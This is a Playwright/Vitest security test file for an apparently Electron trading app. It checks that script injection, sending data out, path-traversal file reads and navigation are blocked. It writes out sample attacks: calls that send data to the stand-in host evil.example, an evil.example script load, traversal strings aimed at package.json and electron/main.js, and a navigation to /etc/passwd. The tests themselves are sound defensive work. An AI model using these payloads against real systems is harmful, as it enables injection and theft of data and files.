/** Attacks on the running app: what a hostile text, link or script in the page would try. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Page } from 'playwright';
import { hosts, type Opened, titleOf } from './hosts.ts';

/** Runs a script the way an injection would: as a tag, under the page's policy. Not by evaluate(), which goes around it. */
const injected = (page: Page, script: Record<'src' | 'text', string | undefined>): Promise<boolean> =>
  page.evaluate(async ({ src, text }) => {
    const tag = document.createElement('script');
    if (src !== undefined) tag.src = src;
    if (text !== undefined) tag.textContent = text;
    const settled = new Promise((resolve) => {
      tag.addEventListener('load', resolve);
      tag.addEventListener('error', resolve);
      setTimeout(resolve, 500);
    });
    document.body.append(tag);
    await settled;
    tag.remove();
    return 'pwned' in globalThis;
  }, script);

for (const host of hosts) {
  describe.skipIf(host.why !== '')(titleOf(host), () => {
    let opened: Opened;
    let page: Page;
    let home: string;
    beforeAll(async () => {
      opened = await host.open();
      page = opened.page;
      await page.locator('[data-index]').first().waitFor({ timeout: 45_000 });
      home = page.url();
    });
    afterAll(async () => {
      await opened?.close();
    });

    test('the page has no Node and no Electron', async () => {
      expect(await page.evaluate(() => ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter((name) => name in globalThis))).toEqual([]);
    });
    test.skipIf(host.name === 'browser')('window.market is the contract, frozen, and nothing else was added to the page', async () => {
      const { keys, replaced } = await page.evaluate(() => {
        const holder = globalThis as unknown as { market: { request: unknown } };
        const before = holder.market;
        try {
          holder.market = { request: 1 };
        } catch { /* a module would throw */ }
        return { keys: Object.keys(before).toSorted(), replaced: holder.market !== before };
      });
      expect(keys).toEqual(['host', 'request', 'subscribe']);
      expect(replaced).toBe(false);
    });
    test.skipIf(host.name === 'browser')('a listener gets one plain message, never an event', async () => {
      const given = await page.evaluate(() => new Promise<{ count: number; keys: string[] }>((resolve) => {
        const { market } = globalThis as unknown as { market: { subscribe(listener: (...given: object[]) => void): () => void } };
        const stop = market.subscribe((...got) => {
          resolve({ count: got.length, keys: Object.keys(got[0] ?? {}).toSorted() });
          stop();
        });
      }));
      expect(given).toEqual({ count: 1, keys: ['channel', 'data', 'sequence'] });
    });
    test.skipIf(host.name === 'browser')('the host refuses what breaks the contract, as a Result', async () => {
      const ask = (name: unknown, data: unknown): Promise<unknown> => page.evaluate(([n, d]) => (globalThis as unknown as { market: { request(name: unknown, data: unknown): Promise<unknown> } }).market.request(n, d), [name, data]);
      for (const [name, data] of [['shutdown', {}], ['tape', { index: '../../x', limit: 1 }], ['watch', { indices: ['x'.repeat(100_000)] }], ['watch', null]] as const) {
        expect(await ask(name, data)).toMatchObject({ ok: false, error: { code: 'BAD_INPUT' } });
      }
    });

    test('inline and foreign scripts, eval and inline handlers do not run', async () => {
      expect(await injected(page, { text: 'globalThis.pwned = 1', src: undefined })).toBe(false);
      expect(await injected(page, { src: 'data:text/javascript,globalThis.pwned=1', text: undefined })).toBe(false);
      expect(await injected(page, { src: 'https://evil.example/x.js', text: undefined })).toBe(false);
      const ran = await page.evaluate(async () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'globalThis.pwned = 2');
        image.src = 'data:image/png,broken';
        document.body.append(image);
        await new Promise((resolve) => { setTimeout(resolve, 200); });
        image.remove();
        return 'pwned' in globalThis;
      });
      expect(ran).toBe(false);
    });
    test('nothing can be sent elsewhere: no fetch, socket, picture, frame or form', async () => {
      const refused = await page.evaluate(async () => {
        const seen = new Set<string>();
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.add(effectiveDirective));
        await fetch('https://evil.example/?price=1').catch(() => {});
        try {
          new WebSocket('wss://evil.example/').close();
        } catch { /* some browsers throw, others fire error */ }
        for (const [tag, address] of [['img', 'https://evil.example/x.png'], ['iframe', 'https://evil.example/'], ['iframe', location.href], ['object', 'https://evil.example/']] as const) {
          const element = document.createElement(tag);
          element.setAttribute(tag === 'object' ? 'data' : 'src', address);
          document.body.append(element);
          setTimeout(() => element.remove(), 300);
        }
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
        form.remove();
        await new Promise((resolve) => { setTimeout(resolve, 600); });
        return [...seen].toSorted();
      });
      // A refused form is told in some builds only; that it leads nowhere is seen by the address.
      expect(refused.filter((directive) => directive !== 'form-action')).toEqual(['connect-src', 'frame-src', 'img-src', 'object-src']);
      expect(page.url()).toBe(home);
    });
    test('files beside the page cannot be read', async () => {
      // The page's own policy would stop fetch in the app, so the addresses are asked as scripts and styles are: by the browser itself.
      for (const path of ['../package.json', '%2e%2e/package.json', '..%2fpackage.json', '..%5cpackage.json', '../electron/main.js', '%2e%2e%2felectron%2fmain.js', '../renderer-secret/x.js']) {
        const status = await page.evaluate(async (address) => {
          const link = document.createElement('link');
          link.rel = 'stylesheet';
          link.href = new URL('/', location.href).href + address;
          const outcome = new Promise<string>((resolve) => {
            link.addEventListener('load', () => resolve('loaded'));
            link.addEventListener('error', () => resolve('refused'));
          });
          document.head.append(link);
          const result = await outcome;
          link.remove();
          const served = performance.getEntriesByName(link.href).some((entry) => (entry as PerformanceResourceTiming).responseStatus === 200);
          return served ? 'served' : result;
        }, path);
        expect([path, status]).toEqual([path, 'refused']);
      }
    });
    test('permissions are denied', async () => {
      const states = await page.evaluate(() => Promise.all(['geolocation', 'notifications', 'camera', 'microphone'].map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state)));
      expect(states.filter((state) => state === 'granted')).toEqual([]);
    });

    test.skipIf(host.name === 'browser')('the window stays on its page: no navigation, no second window', async () => {
      await page.evaluate(() => { location.href = 'https://evil.example/'; });
      await page.evaluate(() => { location.href = 'file:///etc/passwd'; }).catch(() => {});
      await page.evaluate(() => {
        const link = document.createElement('a');
        link.href = 'https://evil.example/';
        document.body.append(link);
        link.click();
        link.remove();
      });
      await page.evaluate(() => { window.open('https://evil.example/'); });
      await page.evaluate(() => { window.open('https://cloud.google.com/bigtable/docs'); });
      await page.waitForTimeout(1_000);
      expect(page.url()).toBe(home);
      expect(await page.locator('[data-index]').count()).toBeGreaterThan(0);
      await expect.poll(() => opened.app?.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
    });
    test('after all that the prices still move', async () => {
      await expect.poll(() => page.locator('[data-index="SX5E"]').getAttribute('data-state'), { timeout: 20_000 }).toMatch(/^(?:live|quiet)$/);
    });
  });
}
